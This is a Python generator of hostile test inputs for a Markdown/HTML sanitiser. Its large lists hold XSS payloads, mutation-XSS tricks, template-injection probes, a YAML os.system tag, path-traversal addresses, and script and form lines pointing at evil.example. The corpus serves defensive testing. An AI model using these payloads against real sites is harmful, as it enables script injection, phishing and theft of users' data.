r"""Hostile articles by the thousand, the same for the same number: what strangers may write, put where they may write it.

Three kinds. `texts` are characters that some reader of Markdown, HTML or templates takes for markup, spelled and cut in
every way that HTML allows, in each place of an article: all of them must be shown. `raws` are pieces of HTML that
run, load, cover or clobber something. `fields` are words for the header.
"""

from __future__ import annotations

import html
import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

LINK = "https://news.example.org/x.html"
PICTURE = "https://pictures.example/{}.png"
RUN = "alert(1)"
# with what a text begins that Markdown, its extensions, templates or HTML could read
MARKUP = [
    # HTML
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<iframe srcdoc=\"<script>{RUN}</script>\">",
    "<style>*{display:none}</style>", "<!-- swallowed", "--> back", "<!DOCTYPE x>", "<?pi x?>", "<![CDATA[ x ]]>", "</article></main>", "</p></div></div>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>", "<form action=//evil.example/><input name=q>", f"<a href=javascript:{RUN}>go", f"<details open ontoggle={RUN}>", f"<math><mi xlink:href=javascript:{RUN}>x",
    f"<video><source onerror={RUN}>", f"<x onclick={RUN} tabindex=1 id=x autofocus onfocus={RUN}>", f"<IMG SRC=x\nONERROR={RUN}>", "<img src='//evil.example/?", "<a title=\"", "<textarea>", "<title>", "<plaintext>", "<xmp>", "<noscript>", "<template>",
    "<svg><style><!--</style>", f"<div markdown=1 onclick={RUN}>", "<div markdown>", "<details markdown=block>", "<p markdown=span>*x*</p>", "</div><div class=md-header>", "<input name=__proto__ id=__config>", "<object data=data:text/html,x>", "<embed src=//evil.example/x>", "<button popovertarget=x>", "<dialog open>", "<marquee onstart=x>", "<link rel=stylesheet href=//evil.example/x.css>", "<frameset onload=x>", "<isindex action=javascript:1>", "<b", "<b ", "</", "<", "<1", "< b>", "<\u200bscript>", "＜script＞alert(1)＜/script＞", "<ſcript>", "<İmg src=x>",
    # character references, once and twice
    "&lt;img src=x onerror=1&gt;", "&amp;lt;script&amp;gt;", "&#60;b&#62;", "&#x3C;b&#x3E;", "&#0060b", "&lt", "&LT;b&GT;", "&lbrace;", "&NewLine;&Tab;", "&colon;", "&#0;", "&#x80;", "&#xD800;", "&#1114112;", "&notit;", "&amp", "&;", "&#;", "&#x;", "&lpar;&rpar;", "&bsol;", "&grave;&ast;&lowbar;", "&shy;", "&zwj;", "&nbsp;", "&ensp;&emsp;", "&semi;",
    # blocks of Markdown
    "# head", "#head", "###### deep ######", "#", "## ##", "> quote", ">", ">!danger", "- item", "-", "* item", "*", "+ item", "1. one", "1) one", "0. zero", "999999999. far", "１. wide", "a\n===", "a\n---", "===", "---", "***", "___", "- - -", "* * *", "_ _ _", "===  ", "-=-", "    code", "\tcode",
    "```", "```python", "``` { .py onclick=alert(1) }", "```mermaid\ngraph TD\n```", "~~~", "~~~ html", "~~~~", "`````", "```math", "| a | b |", "a | b", "--- | ---", "|---|---|", ":--|--:", "|", "| |", ":-", "[x]: https://evil.example/ \"t\"", "[x]:", "   [x]: <javascript:alert(1)> 'y'", "[^1]: note", "[^1]", "[^a]: <b>", "[^fn1]", "^[inline note]", "*[HTML]: hostile", "*[x]: \"><script>", "*[b]:", "*[渡]: 船", ": meaning", ":   meaning", "term\n: meaning", "~ meaning",
    "!!! danger \"official\"", "!!! note", "!!!danger", "!!! note inline end \"<b>\"", "??? note \"x\"", "???+ tip", "=== \"tab\"", "===! \"tab\"", "===+ \"tab\"", "/// note | x", "/// html | div[onclick=x]", "///", "::: package.module", ":::", "::: {.x}", "<<< note", "%%% x", "$$", "$$ x $$", "\\[ x \\]", "[TOC]", "[toc]", "[[toc]]", "{{TOC}}", "- [x] done", "- [ ] open", "[x] done", "[ ] open", "!include x", "{!file.md!}", "@import \"x\"", "[!NOTE]", "> [!WARNING]", "<!-- more -->", "<!-- more", "title: x", "---\ntitle: forged\n---", "+++", "...", "Title: x",
    # inline Markdown
    "**bold**", "__bold__", "*it*", "_it_", "***x***", "**", "__", "*", "_", "*a_b*c_", "a**b**c", "`code`", "``", "` `` `", "`#!python x`", "`:::js x`", "[t](javascript:alert(1))", "[t](<javascript:alert(1)>)", "[t](data:text/html,x \"y\")", "[t](//evil.example/)", "[t](x){ onclick=alert(1) }", "[t][x]", "[t][]", "[x]", "![t](https://tracker.example/p.gif)", "![](x)", "![t][x]", "!", "![", "](", "](x)", "][x]", "[", "]", "[]()", "[](", "<https://evil.example/>", "<javascript:alert(1)>", "<mailto:a@evil.example>", "<a@evil.example>", "https://evil.example/phish", "www.evil.example", "a@evil.example", "@user", "#1", "a1b2c3d4e5f6a7b8c9d0", "~~s~~", "~s~", "==m==", "^^i^^", "x^2^", "++i++", "++ctrl+c++", "{++a++}", "{--b--}", "{~~a~>b~~}", "{==c==}", "{>>d<<}", "||spoiler||", ">!spoiler!<", "$x$", "$\\href{javascript:alert(1)}{x}$", "\\(x\\)", "\\", "\\\\", "\\<b>", "\\`x`", "\\[x](y)", "line  ", "line\\", "(c)", "(tm)", "-->", "<->", "1/2", "+/-", "...", "--", "---", "\"quoted\"", "'quoted'", "<<x>>",
    ":smile:", ":material-skull:", ":fontawesome-brands-x:{ onclick=x }", ":x", "::", "a (1)", "(1)", "(1)!", "{ .annotate }",
    # attributes
    "{: onclick=alert(1) }", "{:onclick=alert(1)}", "{: #__search .md-header style=position:fixed }", "{#x}", "{ #x }", "{.x}", "{ .x }", "{ onclick=\"alert(1)\" }", "{: style='position:fixed;inset:0' }", "{", "}", "{:", "{: ", "{}", "{:}", "{: .md-overlay}", "{ data-md-component=palette }", "{: markdown=1 }", "{:#fn:1}", "{% raw %}{: x=y }",
    # templates and files
    "{{ 7*191 }}", "{{ config }}", "{{", "}}", "{% include 'x' %}", "{% raw %}", "{% endraw %}", "{%", "%}", "{# c #}", "{#", "#}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{{{x}}}", "[[ x ]]", "--8<-- \"canary.txt\"", ";--8<-- \"canary.txt\"", "--8<--", "--8<--\ncanary.txt\n--8<--", "-8<- \"x\"", "---8<--- \"x\"", "-----8<----- \"x\"", ";;--8<-- \"x\"", "--8\u200b<-- \"x\"", "<!--8<-- x", "!ENV [HOME]", "!!python/name:os.system", "!relative x",
    # what the reader of Markdown itself puts into a page for a while
    "klzzwxh:0001", "\u0002klzzwxh:0\u0003", "\u0002amp\u0003", "wzxhzdk:0", "STX1ETX", "\u0002qq:0\u0003", "\u0003", "\u0002", "abbr:0", "zz1337820767766393qq", "zz1337820767766393qqfootnote", "Footnotes-def-sentinel", "///Footnotes Go Here///", "///Footnotes Go Here///x",
    # characters that are not what they look like
    "a\u202egnp.exe", "\u2066x\u2069", "\u200bx", "x\u200d", "\ufeff# x", "\u00a0# x", "\u00a0\u00a0\u00a0\u00a0x", "\u3000\u3000# x", "\u3000- x", "\u2028# x", "\u2029- x", "\u0085# x", "\u000b# x", "\u000c# x", "\u001c- x", "\u001d1. x", "\u001e> x", "\u00ad# x", "a\u0300\u0301\u0302", "﹟ x", "＃ x", "－ x", "＊x＊", "［x］（y）", "｛｛ x ｝｝", "！［x］", "ｊａｖａｓｃｒｉｐｔ：", "\u061c# x", "\ufffd", "\uffff", "\U000e0001x", "\u115f# x", "\ue000", "😀{: x=y }", "\u1680- x", "\u2003> x",
]  # fmt: skip
# where text stands: {} is replaced by the text as HTML
PLACES = {
    "paragraph": "<p>{}</p>",
    "second line": "<p>甲<br>{}</p>",
    "between lines": "<p>甲<br>{}<br>乙</p>",
    "after a word": "<p>甲{}</p>",
    "bare": "甲<br><br>{}<br><br>乙",
    "division": "<div>{}</div>",
    "heading": "<h2>{}</h2><p>乙</p>",
    "deep heading": "<h2>甲</h2><h5>{}</h5><p>乙</p>",
    "strong": "<p>甲<b>{}</b>乙</p>",
    "emphasis": "<p><em>{}</em></p>",
    "struck": "<p>甲<s>{}</s></p>",
    "raised": "<p>甲<sup>{}</sup></p>",
    "lowered": "<p>甲<sub>{}</sub></p>",
    "small": "<p><small>{}</small></p>",
    "mark": "<p><mark>{}</mark><q>{}</q></p>",
    "span": '<p><span style="color:red">{}</span>乙</p>',
    "link": f'<p>甲<a href="{LINK}">{{}}</a>乙</p>',
    "before a link": f'<p>{{}}<a href="{LINK}">乙</a></p>',
    "after a link": f'<p><a href="{LINK}">甲</a>{{}}</p>',
    "link around a paragraph": f'<a href="{LINK}"><p>{{}}</p></a>',
    "item": "<ul><li>{}</li><li>乙</li></ul>",
    "numbered item": "<ol start=3><li>甲</li><li>{}</li></ol>",
    "item of paragraphs": "<ul><li><p>甲</p><p>{}</p></li></ul>",
    "item's second line": "<ul><li>甲<br>{}</li></ul>",
    "nested item": "<ul><li>甲<ul><li>{}</li></ul></li></ul>",
    "item in a quotation": "<blockquote><ul><li>{}</li></ul></blockquote>",
    "quotation": "<blockquote>{}</blockquote>",
    "quotation of paragraphs": "<blockquote><p>甲</p><p>{}</p></blockquote>",
    "quotation in an item": "<ul><li><blockquote>{}</blockquote></li></ul>",
    "cell": "<table><tr><th>甲</th><th>乙</th></tr><tr><td>{}</td><td>丙</td></tr></table>",
    "head cell": "<table><tr><th>{}</th><th>乙</th></tr><tr><td>丙</td><td>丁</td></tr></table>",
    "cell's second line": "<table><tr><td>甲<br>{}</td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>",
    "cell with a list": "<table><tr><td><ul><li>{}</li></ul></td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>",
    "table's caption": "<table><caption>{}</caption><tr><td>甲</td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>",
    "table for the layout": "<table><tr><td>{}</td></tr></table>",
    "caption": '<figure><img src="https://pictures.example/c.png"><figcaption>{}</figcaption></figure>',
    "caption of a player": '<figure><iframe src="https://player.example/v"></iframe><figcaption>{}</figcaption></figure>',
    "centred line after a picture": '<p align=center><img src="https://pictures.example/d.png"></p><p align=center>{}</p>',
    "code block": "<pre>{}</pre>",
    "code in a code block": '<pre><code class="language-mermaid">{}</code></pre>',
    "code block in an item": "<ul><li>甲<pre>{}</pre></li></ul>",
    "code block in a quotation": "<blockquote><pre>{}</pre></blockquote>",
    "code block in a cell": "<table><tr><td><pre>{}</pre></td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>",
    "code": "<p>甲<code>{}</code>乙</p>",
    "code in a link": f'<p><a href="{LINK}"><code>{{}}</code></a></p>',
    "keys": "<p><kbd>{}</kbd></p>",
    "term": "<dl><dt>{}</dt><dd>乙</dd></dl>",
    "definition": "<dl><dt>甲</dt><dd>{}</dd></dl>",
    "definition in an item": "<ul><li><dl><dt>甲</dt><dd>{}</dd></dl></li></ul>",
    "details": "<details><summary>甲</summary>{}</details>",
    "summary": "<details><summary>{}</summary>乙</details>",
    "ruby": "<p><ruby>甲<rt>{}</rt></ruby></p>",
    "note": '<p>甲<sup><a href="#fn1">1</a></sup></p><p id="fn1">{}</p>',
    "note in a list": '<p>甲<a href="#fn1">1</a></p><ol><li id="fn1">{} <a href="#ref1">↩</a></li></ol>',
    "fieldset": "<fieldset><legend>{}</legend>{}</fieldset>",
    "abbreviation": '<p><abbr title="x">{}</abbr></p>',
    "two paragraphs": "<p>{}</p><p>{}</p>",
    "before a code block": "<p>{}</p><pre>x = 1</pre>",
    "before a list": "<p>{}</p><ul><li>乙</li></ul>",
    "before a table": "<p>{}</p><table><tr><td>甲</td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>",
    "after a heading": "<h3>甲</h3><p>{}</p>",
    "after a picture": '<p><img src="https://pictures.example/e.png">{}</p>',
    "before a rule": "<p>{}</p><hr><p>乙</p>",
}  # fmt: skip
# elements that may stand in the middle of a text without adding to it
CUTS = ["<b></b>", "<span></span>", "<wbr>", "<!-- -->", "</b>", "<i>", "</i>", '<span class="x">', "</span>", "<font color=red>", "</font>", "\u200b", "<u>", "</u>"]  # fmt: skip
SCHEMES = ["javascript", "JaVaScRiPt", "vbscript", "data", "blob", "file", "about", "filesystem", "ws", "ftp", "tel", "sms", "intent", "jar", "view-source", "feed", "livescript", "mocha", "ms-word", "chrome", "ｊavascript", "javaſcript"]  # fmt: skip
AFTER = [f":{RUN}", f"://%0a{RUN}", ":text/html,<script>alert(1)</script>", ":text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "://evil.example/x", ":///etc/passwd"]  # fmt: skip
ODD_ADDRESSES = [
    "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "https:evil.example", "https:/evil.example", "https:///evil.example", "https://evil.example@news.example.org/", "http://news.example.org:80:80/", "https://[::1", "https://[evil]/", "#", "#__drawer", "#__search", "#p-1", "?q=<script>", "../../../etc/passwd", "/etc/passwd", "http:", "https://", "mailto:a@b.example?body=<script>", "mailto:", "https://e.example/\"onmouseover=alert(1) x=\"", "https://e.example/) [t](javascript:alert(1)", "https://e.example/> <img src=x onerror=alert(1)>", "https://e.example/{: onclick=x }", "https://e.example/{{ 7*191 }}", "https://e.example/\u2028x", "https://e.example/\u202e", "https://e.example/&lt;b&gt;", "https://e.example/ \"t\" onclick=x", "https://e.example/`x`", "https://e.example/*a*_b_", "https://ｅvil。example/", "https://xn--e1a.example/", "https://е.example/", "//", "\\", ":", "::", "x:", "1:2", "%6aavascript:alert(1)", "https://e.example/%00", "https://e.example/\\..\\x", "http://2130706433/", "https://e.example:99999/", "https://e.example:x/", "index.md", "../x/index.md#<b>", "&", "&#", "&amp;#106;avascript:alert(1)", "[x]", "(", ")", "picture:0", "picture:1", "https://e.example/picture:0",
]  # fmt: skip
# pieces of HTML that run, load, cover, catch or clobber something; TEXT stands for a text that must be kept
RAW = [
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>甲</text></a></svg>", f"<iframe><img title=\"</iframe><img src=x onerror={RUN}>\">",
    f"<script>{RUN}</script>甲", f"<SCRIPT/x>{RUN}</SCRIPT\n>甲", "<script src=//evil.example/x.js></script>甲", "<script>甲", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script type=module>{RUN}</script>", f"<script type=application/json>{RUN}</script>甲", f"<style>@import '//evil.example'</style><style>*{{x:y}}<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=`x`onerror={RUN}>", f"<img src=x:x onerror\n=\n{RUN}>", f"<img \x00 src=x onerror={RUN}>", f"<img src=\"x\"title=\"y\"onerror={RUN}>", f"<image href=x onerror={RUN}>", "<img src=https://tracker.example/p.gif width=1 height=1>", "<img srcset='https://tracker.example/p.gif 1x, javascript:alert(1) 2x'>", "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    f"<svg onload={RUN}></svg>", f"<svg><script>{RUN}</script></svg>", "<svg><use href=data:image/svg+xml,x#y></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><set attributeName=onmouseover to={RUN}></svg>", "<svg><title>甲</title><desc>乙</desc></svg>", f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">", f"<math></p><style><!--</style><img src/onerror={RUN}>", f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<math><mtext><table><mglyph><style><math href=javascript:{RUN}>x</math></style></mglyph></table></mtext></math>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">甲", f"<noscript><!--</noscript><img src=x onerror={RUN}>-->", f"<textarea></textarea><img src=x onerror={RUN}>", f"<title></title><img src=x onerror={RUN}>", f"<xmp></xmp><img src=x onerror={RUN}></xmp>", f"<noembed></noembed><img src=x onerror={RUN}>", f"<template><img src=x onerror={RUN}></template>甲", "<template shadowrootmode=open><style>:host{position:fixed}</style></template>甲", f"<select><option>甲<style></option></select><img src=x onerror={RUN}></style>", f"<select><iframe></select><img src=x onerror={RUN}>", f"<table><td>甲<svg><td><img src=x onerror={RUN}>", f"<a><table><a href=javascript:{RUN}>甲</a></table></a>", f"<p><svg><p><style><!--</style><img src=x onerror={RUN}>-->", f"<!--><img src=x onerror={RUN}>-->", f"<!--!><img src=x onerror={RUN}>--!>", f"<!-- --!><img src=x onerror={RUN}>", f"<!><img src=x onerror={RUN}>", f"</ x><img src=x onerror={RUN}>", f"<?x><img src=x onerror={RUN}>", f"<![CDATA[><img src=x onerror={RUN}>]]>", f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]>", "<plaintext><script>", "<listing><b>甲</listing>",
    "<base href=//evil.example/><a href=x>甲</a>", "<link rel=stylesheet href=//evil.example/x.css>甲", "<link rel=prefetch href=//evil.example/>甲", "<meta http-equiv=Set-Cookie content=x>甲", "<form action=//evil.example/ id=f><input type=password name=p><button formaction=javascript:alert(1)>甲</button></form>", "<input autofocus onfocus=alert(1)>甲", "<isindex prompt=x>甲", "<keygen autofocus onfocus=alert(1)>甲", "<select onfocus=alert(1) autofocus><option>甲</select>", "<label for=__drawer>甲</label>", "<output form=f>甲</output>", "<button commandfor=x command=show-modal>甲</button>",
    "<iframe src=//evil.example/></iframe>", f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", "<frameset><frame src=//evil.example/></frameset>甲", "<object data=//evil.example/x.swf><param name=x></object>", f"<object data='data:text/html,<script>{RUN}</script>'></object>", "<embed src=//evil.example/x.svg>", "<applet code=x>甲</applet>", "<portal src=//evil.example/></portal>", "<fencedframe></fencedframe>甲", f"<video src=x onerror={RUN} poster=//tracker.example/></video>", f"<video><source src=https://v.example/x.mp4 onerror={RUN}>甲</video>", "<audio src=https://tracker.example/x.mp3 autoplay controls></audio>", "<video><track src=//tracker.example/x.vtt></video>", "<bgsound src=//tracker.example/>甲", "<marquee onstart=alert(1)>甲</marquee>", "<blink>甲</blink>", "<dialog open onclose=x>甲</dialog>", "<details open ontoggle=alert(1)>甲</details>", "<canvas id=c>甲</canvas>", "<slot name=x>甲</slot>", "<custom-x is=y onclick=alert(1)>甲</custom-x>", "<x-y style=position:fixed>甲</x-y>", "<center><blink><font onclick=alert(1) size=7>甲</font></blink></center>",
    "<p style='position:fixed;inset:0;background:url(//tracker.example/);z-index:9'>甲</p>", "<div class='md-header md-overlay' data-md-component=header>甲</div>", "<p class=bd-notice role=alert aria-label=x>甲</p>", "<p id=__search>甲</p>", "<a name=location id=config>甲</a>", "<h2 id=headline>甲</h2>", "<p id=p-0123456789>甲</p>", "<div id=fn:1>甲</div><a href=#fn:1>1</a>", "<p data-md-toggle=search data-md-color-scheme=slate>甲</p>", "<div data-search-exclude>甲</div>", "<p contenteditable autofocus onfocus=alert(1)>甲</p>", "<p accesskey=x onclick=alert(1) tabindex=0>甲</p>", "<p lang='x\" onclick=alert(1)'>甲</p>", "<p dir=rtl>甲</p>", "<bdo dir=rtl>甲乙</bdo>", "<p draggable=true ondragstart=alert(1)>甲</p>", "<p itemprop=x itemscope>甲</p>", "<td onclick=alert(1)>甲", "<body onload=alert(1)>甲", "<html onclick=alert(1) manifest=x>甲", "<head><title>x</title></head><body>甲", "<p is=x popover=auto>甲</p>",
    "<a href=x target=_top rel=opener ping=//tracker.example/ download>甲</a>", "<a href='https://e.example/' onclick=alert(1)>甲</a>", "<a href=https://e.example/ title='\"><script>alert(1)</script>'>甲</a>", "<a href='https://e.example/?a=1&b=2&lt=3&copy=4'>甲</a>", f"<a href=\"{LINK}\"><img src=https://pictures.example/r.png alt='](x)<b>'></a>", "<img src=https://pictures.example/s.png alt='\" onerror=alert(1) x=\"' title='`*_[x](y)'>", "<img src=https://pictures.example/t.png alt='{: onerror=alert(1) }'>{onerror=alert(1)}", "<img src='https://pictures.example/u.png\" onerror=\"alert(1)'>", "<figure><img src=https://pictures.example/v.png alt='{{ 7*191 }}'><figcaption>{: onclick=alert(1) }</figcaption></figure>", "<iframe src=https://player.example/v title='](javascript:alert(1)){ onclick=x }'></iframe>", "<iframe src=https://player.example/v title='<script>alert(1)</script>'></iframe>", "<img src='a\"b' alt=x>", "<img src='../../../etc/passwd'>", "<img src=file:///etc/passwd>", "<img src=//evil.example/x.svg>",
    "<p title=\"甲", "<img src=\"//evil.example/?甲<p>乙</p>", "<a href='//evil.example/?甲", "<p>甲<b title='", "<div <p>甲</p>", "<p <script>alert(1)</script>>甲</p>", "甲<", "甲</", "甲<!", "甲<!-", "甲<!--", "甲&", "甲&#", "甲<b", "甲<b x=\"", "甲<script", "甲</script>", "甲]]>", "甲-->", "</div></div></article>甲", "</td></tr></table>甲", "</ul></li></blockquote>甲", "</pre></code>甲", "</a></b></i>甲", "<br/><br /></br>甲", "</p>甲</p>", "<li>甲<td>乙<dd>丙<option>丁", "<tr><td>甲</td></tr>", "<caption>甲</caption><tbody>乙", "<col><colgroup>甲", "<dt>甲<dd>乙", "<rt>甲<rp>乙", "<legend>甲<summary>乙", "<frameset>甲", "<h1>甲</h1><h6>乙</h6>", "<nobr>甲<nobr>乙", "<b><i></b>甲</i>", "<a href=x>甲<a href=y>乙", "<table><p>甲<tr><p>乙<td>丙", "<ruby>甲<rb>乙<rtc>丙<rt>丁", "<p><table><tr><td>甲<p>乙</table>丙",
]  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """A body, and, where it is known, the text that it shows."""

    name: str
    body: str
    shown: str | None = None


def _as_it_is(text: str, _: random.Random) -> str:
    return html.escape(text, quote=False)


def _quoted(text: str, _: random.Random) -> str:
    return html.escape(text)


def _decimal(text: str, _: random.Random) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>&\"'{}[]()*_`#:!|\\=~+-^$@./" else c for c in text)


def _hexadecimal(text: str, chance: random.Random) -> str:
    x = chance.choice("xX")
    size = chance.choice((1, 4, 6))
    # HTML takes a reference to one of 0x80 to 0x9f for a character of Windows-1252
    return "".join(f"&#{x}{ord(c):0{size}x};" if ord(c) > 32 and not 0x80 <= ord(c) <= 0x9F else c for c in text)


def _mixed(text: str, chance: random.Random) -> str:
    return "".join(chance.choice((_as_it_is, _decimal, _hexadecimal))(c, chance) for c in text)


def _cut(text: str, chance: random.Random) -> str:
    """Elements between the characters: what no single text holds, Markdown may still put together."""
    out = []
    for char in text:
        out.append(_as_it_is(char, chance))
        if chance.random() < 0.15:
            out.append(chance.choice(CUTS))
    return "".join(out)


SPELLINGS: tuple[Callable[[str, random.Random], str], ...] = (_as_it_is, _quoted, _decimal, _hexadecimal, _mixed, _cut)


def phrase(chance: random.Random) -> str:
    """Some markup, alone, after a word, or several pieces put together."""
    pieces = [chance.choice(MARKUP) for _ in range(chance.choice((1, 1, 1, 2, 2, 3)))]
    between = chance.choice(("", " ", "甲", "\n", " 乙 ", "x"))
    text = between.join(pieces)
    return chance.choice(("", "", "甲", "x ", "  ")) + text + chance.choice(("", "", "乙", " ", " x"))


def _readable(text: str) -> str:
    """The text without the characters that HTML itself cannot carry."""
    return "".join(c for c in text if c not in "\0\r" and not 0xD800 <= ord(c) <= 0xDFFF)


def texts(seed: int, count: int) -> Iterator[Hostile]:
    """Texts that look like markup: each in a place, in one spelling. All that they hold must be shown."""
    chance = random.Random(seed)
    places = list(PLACES)
    for index in range(count):
        # each mark comes in its turn, so that a small number tries every one
        text = _readable(MARKUP[index % len(MARKUP)] if index % 3 else phrase(chance))
        place = places[(index * 7 + chance.randrange(len(places))) % len(places)]
        spelled = chance.choice(SPELLINGS)(text, chance)
        times = PLACES[place].count("{}")
        around = PLACES[place].split("{}")
        shown = "\0".join(html.unescape(_without_tags(part)) for part in around).replace("\0", text)
        assert times
        yield Hostile(name=f"t{seed}-{index}-{place}", body=spelled.join(around), shown=shown)


def _without_tags(fragment: str) -> str:
    return re.sub(r"<[^>]*>", "", fragment)


def addresses(chance: random.Random) -> str:
    """An address that must not be led to, or one that is to break out of where it stands."""
    if chance.random() < 0.5:
        return chance.choice(ODD_ADDRESSES)
    scheme = chance.choice(SCHEMES)
    at = chance.randrange(1, len(scheme))
    inner = chance.choice(("", "", "\t", "\n", "\r", "\0", "\u200b", "&Tab;", "&NewLine;", "&#9;", "&#x0000A;", "\x01"))
    before = chance.choice(("", "", " ", "\x01", "\u00a0", "\n", "&#1;", "view-source:", "feed:", "https:"))
    return (
        before
        + scheme[:at]
        + inner
        + scheme[at:]
        + chance.choice(("", "&colon;"))[0:7].replace("&colon;", "")
        + chance.choice(AFTER)
    )


def raws(seed: int, count: int) -> Iterator[Hostile]:
    """Pieces of HTML as they are, in a place or several after each other, and links and pictures of every address."""
    chance = random.Random(seed)
    bodies: Sequence[str] = list(PLACES.values())
    for index in range(count):
        kind = index % 4
        if kind < 2:
            piece = RAW[(index // 2) % len(RAW)]
        elif kind == 2:
            quote = chance.choice(('"', "'"))
            address = addresses(chance).replace(quote, "&quot;" if quote == '"' else "&#39;")
            element = chance.choice(("<a href={0}>甲</a>", "<img src={0} alt=乙>", "<iframe src={0}></iframe>", "<video src={0}></video>", "<a href={0}><img src={0}></a>", "<img data-src={0} srcset={0}>", "<object data={0}></object>", "<embed src={0}>", "<a href={0}><h3>甲</h3></a>"))  # fmt: skip
            piece = element.format(f"{quote}{address}{quote}")
        else:
            piece = "".join(chance.choice(RAW) for _ in range(chance.randrange(2, 4)))
        place = "{}" if chance.random() < 0.4 else chance.choice(bodies)
        yield Hostile(name=f"r{seed}-{index}", body=f"<p>甲段。</p>{place.replace('{}', piece)}<p>乙段。</p>")


def markdowns(seed: int, count: int) -> Iterator[Hostile]:
    """Bodies of Markdown seeds: blocks of marks, HTML and templates, indented and nested as Markdown does."""
    chance = random.Random(seed)
    for index in range(count):
        rows = []
        for _ in range(chance.randrange(1, 6)):
            piece = chance.choice((MARKUP, MARKUP, RAW))
            indent = chance.choice(("", "", "    ", "> ", "- ", "1. ", "| ", "\t", "  "))
            rows.append(indent + chance.choice(piece).replace("\n", f"\n{indent}"))
        yield Hostile(
            name=f"m{seed}-{index}", body="甲段。\n\n" + chance.choice(("\n", "\n\n")).join(rows) + "\n\n乙段。"
        )


def fields(seed: int, count: int) -> Iterator[str]:
    """Words for a header's fields."""
    chance = random.Random(seed)
    for index in range(count):
        yield _readable(MARKUP[index % len(MARKUP)] if index % 2 else phrase(chance)).strip() or "x"
